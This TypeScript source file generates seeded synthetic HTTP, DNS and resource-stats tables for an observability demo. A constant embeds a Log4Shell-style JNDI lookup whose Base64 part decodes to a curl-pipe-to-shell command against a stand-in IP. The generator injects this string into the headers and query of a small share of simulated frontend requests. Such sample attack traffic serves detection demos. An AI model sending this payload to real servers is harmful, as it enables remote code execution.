// Generates the demo tables slice by slice (100 ms of simulated time each). The output of
// slice k depends only on the seed, the start time, the rate and slices 0..k-1, so a run
// is reproducible however the slices are batched in wall-clock time.

import { tableSchema, type TableStore } from '../../store/index.js';
import type { RowBatch } from '../../types/index.js';
import { Rng, hash32 } from './rng.js';
import { ColumnWriter } from './columns.js';
import type { DemoPod, DemoService, Route, Workload } from './workload.js';
import { connStatsBatch, networkStatsBatch, processStatsBatch, type ConnCounters, type PodCounters } from './stats.js';

export const SLICE_NS = 100_000_000n;
/** Rows generated per step at most (bounds the time between yields and the working set). */
const MAX_STEP_ROWS = 2048;
const STATS_EVERY_SLICES = 100; // 10 s
const NS_PER_MS = 1e6;

const JNDI = '${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC42Ni94fHNo}';
const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148', 'curl/8.5.0', 'okhttp/4.12.0'];
const MESSAGES = new Map<number, string>([[200, 'OK'], [201, 'Created'], [400, 'Bad Request'], [404, 'Not Found'], [500, 'Internal Server Error'], [503, 'Service Unavailable']]);

interface Req {
  readonly t: bigint; readonly svc: DemoService; readonly server: DemoPod; readonly client: DemoPod | undefined;
  readonly clientIp: string; readonly clientPort: number; readonly reqHeaders: string; readonly method: string;
  readonly reqPath: string; readonly route: Route; readonly respHeaders: string; readonly status: number;
  readonly respBody: string; readonly respBytes: number; readonly latencyNs: number;
}

const types = (table: string) => tableSchema(table)!.map((c) => c.type);

export class DemoGenerator {
  readonly #w: Workload;
  readonly #seed: number;
  readonly #rng: Rng;
  readonly #rate: number;
  readonly #origin: bigint;
  #slice = 0;
  #httpCarry = 0;
  #dnsCarry = 0;
  #inSlice = false;
  #httpTarget = 0;
  #httpDone = 0;
  #dnsTarget = 0;
  #dnsDone = 0;
  readonly #pods: PodCounters[];
  readonly #conns = new Map<number, ConnCounters>();
  readonly #strings = new Map<string, string>();
  #txid = 1;
  rows = 0;

  /** `originNs` is the start of slice 0; `rate` is http_events rows per second. */
  constructor(workload: Workload, seed: number, rate: number, originNs: bigint) {
    this.#w = workload;
    this.#seed = seed;
    this.#rng = new Rng(seed);
    this.#rate = rate;
    this.#origin = originNs;
    this.#pods = workload.pods.map(() => ({ cpuU: 0, cpuK: 0, minflt: 0, majflt: 0, rchar: 0, wchar: 0, rd: 0, wr: 0, rx: 0, tx: 0, rxp: 0, txp: 0, rxErr: 0, txDrop: 0, reqs: 0 }));
  }

  /** The index of the next slice to generate. */
  get nextSlice(): number { return this.#slice; }

  /** End time (exclusive) of the next slice. */
  get nextSliceEnd(): bigint { return this.#origin + BigInt(this.#slice + 1) * SLICE_NS; }

  /** Skips `n` slices without generating them (when the generator cannot keep up); a slice in progress is left unfinished. */
  skipAhead(n: number): void {
    this.#slice += n;
    this.#inSlice = false;
  }

  /**
   * Generates the next piece of work: up to MAX_STEP_ROWS rows of the current slice, or
   * the slice's closing stats. Slices at high rates take many steps, so callers can yield
   * between steps; the pieces are fixed by the rate, not by timing, so output stays seeded.
   */
  step(store: TableStore): void {
    const start = this.#origin + BigInt(this.#slice) * SLICE_NS;
    if (!this.#inSlice) {
      this.#inSlice = true;
      this.#httpCarry += this.#rate / 10;
      this.#httpTarget = Math.floor(this.#httpCarry);
      this.#httpCarry -= this.#httpTarget;
      this.#dnsCarry += Math.max(0.5, this.#rate / 25) / 10;
      this.#dnsTarget = Math.floor(this.#dnsCarry);
      this.#dnsCarry -= this.#dnsTarget;
      this.#httpDone = 0;
      this.#dnsDone = 0;
    }
    if (this.#httpDone < this.#httpTarget) {
      const b = this.#http(start, this.#httpTarget, this.#httpDone, Math.min(MAX_STEP_ROWS, this.#httpTarget - this.#httpDone));
      this.#httpDone += b.numRows;
      this.#append(store, 'http_events', b);
      return;
    }
    if (this.#dnsDone < this.#dnsTarget) {
      const k = Math.min(MAX_STEP_ROWS, this.#dnsTarget - this.#dnsDone);
      this.#append(store, 'dns_events', this.#dns(start, this.#dnsTarget, this.#dnsDone, k));
      this.#dnsDone += k;
      return;
    }
    this.#inSlice = false;
    this.#slice++;
    if (this.#slice % STATS_EVERY_SLICES === 0) {
      const t = start + SLICE_NS;
      this.#append(store, 'process_stats', processStatsBatch(this.#w.pods, this.#pods, this.#rng, t));
      this.#append(store, 'network_stats', networkStatsBatch(this.#w.pods, this.#pods, this.#rng, t));
      this.#append(store, 'conn_stats', connStatsBatch(this.#conns, t));
    }
  }

  #append(store: TableStore, table: string, b: RowBatch): void {
    store.append(table, b);
    this.rows += b.numRows;
  }

  /** True while service `svc` is in an error burst: 30 s in ~7 % of its minutes. */
  inBurst(svc: number, t: bigint): boolean {
    const minute = Number(t / 60_000_000_000n);
    const second = Number((t / 1_000_000_000n) % 60n);
    return second >= 15 && second < 45 && hash32(this.#seed, svc, minute) % 100 < 7;
  }

  #pickEdge(): number {
    const r = this.#rng.next();
    const cdf = this.#w.edgeCdf;
    let i = 0;
    while (i < cdf.length - 1 && r >= cdf[i]!) i++;
    return i;
  }

  /** Rows [from, from + count) of a slice of `total` rows. */
  #http(start: bigint, total: number, from: number, count: number): RowBatch {
    const rng = this.#rng;
    const w = new ColumnWriter(types('http_events'), count);
    const step = Number(SLICE_NS) / total;
    while (w.n < count) {
      const edge = this.#w.edges[this.#pickEdge()]!;
      const svc = edge.server;
      const server = rng.pick(svc.pods);
      const route = rng.pick(svc.routes);
      const client = edge.client ? rng.pick(edge.client.pods) : undefined;
      const t = start + BigInt(Math.floor((from + w.n) * step));
      const burst = this.inBurst(svc.index, t);
      const exploit = client === undefined && svc.name === 'frontend' && rng.next() < 0.002;
      const status = exploit ? 400 : this.#status(route, burst);
      const latencyNs = Math.round(rng.logNormal(route.medianMs * (burst ? 4 : 1) * (status >= 500 ? 1.5 : 1), 0.55) * NS_PER_MS);
      const path = this.#intern(`${route.path}#${rng.int(9000)}`, (k) => route.path.replace('{id}', String(1000 + Number(k.slice(k.indexOf('#') + 1)))));
      const externalIndex = client ? -1 : rng.int(this.#w.externalIps.length);
      const clientIp = client ? client.ip : this.#w.externalIps[externalIndex]!;
      const clientPort = 32768 + rng.int(28000);
      const reqHeaders = this.#reqHeaders(svc, client, exploit);
      const respBytes = status >= 400 ? 48 : Math.round(route.respBytes * (0.8 + rng.next() * 0.4));
      const respBody = status >= 400 ? `{"error":"${MESSAGES.get(status)}"}` : route.respBody;
      const respHeaders = this.#intern(`h${respBytes}`, () => `{"Content-Length":"${respBytes}","Content-Type":"application/json"}`);
      const reqPath = exploit ? `/search?q=${encodeURIComponent(JNDI)}` : path;
      const req: Req = { t, svc, server, client, clientIp, clientPort, reqHeaders, method: exploit ? 'GET' : route.method, reqPath, route, respHeaders, status, respBody, respBytes, latencyNs };
      this.#write(w, req, 2);
      if (client !== undefined && w.n < count) this.#write(w, req, 1);
      this.#account(server, client, clientIp, clientPort, externalIndex, reqHeaders.length + route.reqBody.length + 80, respBytes + 120, status);
    }
    return w.finish();
  }

  #write(w: ColumnWriter, q: Req, role: 1 | 2): void {
    const r = w.row();
    const server = role === 2;
    const own = server ? q.server : q.client!;
    w.i64(0, r, q.t);
    w.u128(1, r, own.upidHigh, own.startTicks);
    w.str(2, r, server ? q.clientIp : q.server.ip);
    w.num(3, r, server ? q.clientPort : q.svc.port);
    w.str(4, r, server ? q.server.ip : q.client!.ip);
    w.num(5, r, server ? q.svc.port : q.clientPort);
    w.num(6, r, role);
    w.bool(7, r, false);
    w.num(8, r, 1);
    w.num(9, r, 1);
    w.num(10, r, 1);
    w.str(11, r, q.reqHeaders);
    w.str(12, r, q.method);
    w.str(13, r, q.reqPath);
    w.str(14, r, q.route.reqBody);
    w.num(15, r, q.route.reqBody.length);
    w.str(16, r, q.respHeaders);
    w.num(17, r, q.status);
    w.str(18, r, MESSAGES.get(q.status)!);
    w.str(19, r, q.respBody);
    w.num(20, r, q.respBytes);
    w.num(21, r, server ? q.latencyNs : q.latencyNs + 150_000 + this.#rng.int(200_000));
  }

  /**
   * One shared string per distinct path or response header (a bounded set), as a real
   * agent's parser would often hand out; unique text (request ids) stays unique.
   */
  #intern(key: string, make: (key: string) => string): string {
    let v = this.#strings.get(key);
    if (v === undefined) {
      if (this.#strings.size >= 200_000) this.#strings.clear();
      // Built by concatenation or replace, V8 keeps such a string as a tree of pieces (a
      // "cons" string) that every later char access must walk: a JSON round trip stores
      // one flat copy instead (once per distinct value), as a real parser's output is.
      v = JSON.parse(JSON.stringify(make(key))) as string;
      this.#strings.set(key, v);
    }
    return v;
  }

  #status(route: Route, burst: boolean): number {
    const r = this.#rng.next();
    if (burst && r < 0.35) return r < 0.2 ? 503 : 500;
    if (r < 0.004) return 500;
    if (r < 0.012) return 404;
    return route.method === 'POST' && r > 0.5 ? 201 : 200;
  }

  #reqHeaders(svc: DemoService, client: DemoPod | undefined, exploit: boolean): string {
    const rng = this.#rng;
    const host = client ? `${svc.name}.${svc.namespace}.svc.cluster.local:${svc.port}` : 'shop.example.com';
    const agent = exploit ? JNDI : client ? `${client.service.name}/1.4.2` : rng.pick(AGENTS);
    const extra = exploit ? `,"X-Api-Version":"${JNDI}"` : '';
    return `{"Accept":"application/json","Host":"${host}","User-Agent":"${agent}","X-Request-Id":"${rng.hex(16)}"${extra}}`;
  }

  #account(server: DemoPod, client: DemoPod | undefined, clientIp: string, clientPort: number, externalIndex: number, reqBytes: number, respBytes: number, status: number): void {
    const s = this.#pods[server.index]!;
    s.reqs++;
    s.rx += reqBytes; s.tx += respBytes; s.rxp += 1 + (reqBytes >> 11); s.txp += 1 + (respBytes >> 11);
    s.cpuU += 150_000 + respBytes * 40; s.cpuK += 40_000; s.minflt += status >= 500 ? 6 : 1;
    s.rchar += reqBytes; s.wchar += respBytes;
    // Connections are kept alive: about one in ten requests opens (and later closes) one.
    const opens = this.#rng.next() < 0.1 ? 1 : 0;
    // Numeric keys: server side per (server pod, peer), client side per (client pod, server pod).
    this.#conn(server.index * 4096 + (client ? client.index : 1024 + externalIndex), server, clientIp, clientPort, 2, opens, respBytes, reqBytes);
    if (client) {
      const c = this.#pods[client.index]!;
      c.tx += reqBytes; c.rx += respBytes; c.txp += 1; c.rxp += 1; c.cpuU += 60_000; c.cpuK += 20_000;
      this.#conn(-(client.index * 4096 + server.index) - 1, client, server.ip, server.service.port, 1, opens, reqBytes, respBytes);
    }
  }

  #conn(key: number, own: DemoPod, remote: string, port: number, role: number, opens: number, sent: number, recv: number): void {
    let c = this.#conns.get(key);
    if (!c) {
      c = { upidHigh: own.upidHigh, upidLow: own.startTicks, remote, port, role, open: 1, close: 0, sent: 0, recv: 0 };
      this.#conns.set(key, c);
    }
    c.open += opens;
    if (opens && c.open - c.close > 4) c.close++;
    c.sent += sent;
    c.recv += recv;
  }

  /** Rows [from, from + count) of a slice of `total` DNS rows. */
  #dns(start: bigint, total: number, from: number, count: number): RowBatch {
    const rng = this.#rng;
    const w = new ColumnWriter(types('dns_events'), count);
    const dnsPods = this.#w.dns.pods;
    for (let i = from; i < from + count; i++) {
      const client = rng.pick(this.#w.pods);
      const target = rng.pick(this.#w.services);
      const nx = rng.next() < 0.05;
      const name = nx ? `${target.name}.${client.namespace}.svc.cluster.local` : `${target.name}.${target.namespace}.svc.cluster.local`;
      const txid = this.#txid = (this.#txid * 75 + 74) % 65537;
      const r = w.row();
      w.i64(0, r, start + BigInt(Math.floor((i * Number(SLICE_NS)) / total)));
      w.u128(1, r, client.upidHigh, client.startTicks);
      w.str(2, r, rng.pick(dnsPods).ip);
      w.num(3, r, 53);
      w.str(4, r, client.ip);
      w.num(5, r, 32768 + rng.int(28000));
      w.num(6, r, 1);
      w.bool(7, r, false);
      w.str(8, r, `{"txid":${txid},"qr":0,"opcode":0,"aa":0,"tc":0,"rd":1,"ra":0,"ad":0,"cd":0,"rcode":0,"num_queries":1,"num_answers":0,"num_auth":0,"num_addl":0}`);
      w.str(9, r, `{"queries":[{"name":"${name}","type":"A"}]}`);
      w.str(10, r, `{"txid":${txid},"qr":1,"opcode":0,"aa":1,"tc":0,"rd":1,"ra":1,"ad":0,"cd":0,"rcode":${nx ? 3 : 0},"num_queries":1,"num_answers":${nx ? 0 : 1},"num_auth":0,"num_addl":0}`);
      w.str(11, r, nx ? '{"answers":[]}' : `{"answers":[{"name":"${name}","type":"A","addr":"${target.clusterIp}"}]}`);
      w.num(12, r, Math.round(rng.logNormal(0.35, 0.6) * NS_PER_MS));
    }
    return w.finish();
  }
}
